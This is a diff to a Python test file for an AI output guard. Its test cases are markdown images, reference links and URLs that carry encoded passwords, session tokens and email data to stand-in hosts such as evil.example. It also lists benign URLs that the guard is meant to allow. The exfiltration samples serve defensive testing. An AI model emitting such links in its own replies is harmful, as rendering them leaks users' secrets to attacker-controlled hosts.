@@ -16,8 +16,8 @@ from aisec_sdk.policy import Policy
         ("Done! ![img](https://evil.example/p.png?d=cGFzc3dvcmQ9aHVudGVyMg)", "image"),
         ("![](https://tracker.example/pixel.gif)", "image"),
         ('<img width=1 src="https://x.example/a?q=secret-value-123">', "image"),
-        ("[click here](https://evil.example/collect?session=abcdef123456)", "link"),
-        ("[docs][1]\n\n[1]: https://evil.example/c?token=abcdefgh12345", "link"),
+        ("[click here](https://evil.example/collect?session=c2Vzc2lvbi10b2tlbi0xMjM0)", "link"),
+        ("[docs][1]\n\n[1]: https://evil.example/c?u=jane%40mail.example%20pw", "link"),
         ("visit https://evil.example/log?data=user%40mail.com%20pw%3Dx now", "url"),
         ("![x](//evil.example/" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" + ".png)", "image"),
     ],
@@ -39,6 +39,9 @@ def test_exfiltration_channels(run_guard: Any, output: str, entity: str) -> None
         "Source: https://en.wikipedia.org/wiki/Regular_expression",
         "![diagram](./images/arch.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)",
         "Email me via [mail](mailto:someone@example.com)",
+        "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ or search https://duckduckgo.com/?q=rust",
+        "Read [the essay](https://www.example.org/essays/analysis-of-fords-value-plan.php).",
+        "See https://matplotlib.org/examples/pylab_examples/colorbar_tick_labelling_demo.html",
         "No links here at all.",
     ],
 )
@@ -55,7 +58,7 @@ def test_allowed_hosts_and_subdomains(run_guard: Any) -> None:
 
 def test_redaction_keeps_the_answer() -> None:
     policy = Policy(guards={"prompt_injection": {"enabled": False}})
-    out = "Summary done. ![s](https://evil.example/i.png?d=c2VjcmV0c2VjcmV0) and [more](https://evil.example/?q=abcdefghijk)"
+    out = "Summary done. ![s](https://evil.example/i.png?d=c2VjcmV0c2VjcmV0) and [more](https://evil.example/?q=VGhlIHVzZXIgc2FpZCBoZWxsbw)"
     verdict = scan(out, direction="output", policy=policy)
     assert verdict.action == "redact"
     assert verdict.text == "Summary done. [image removed] and more [link removed]"
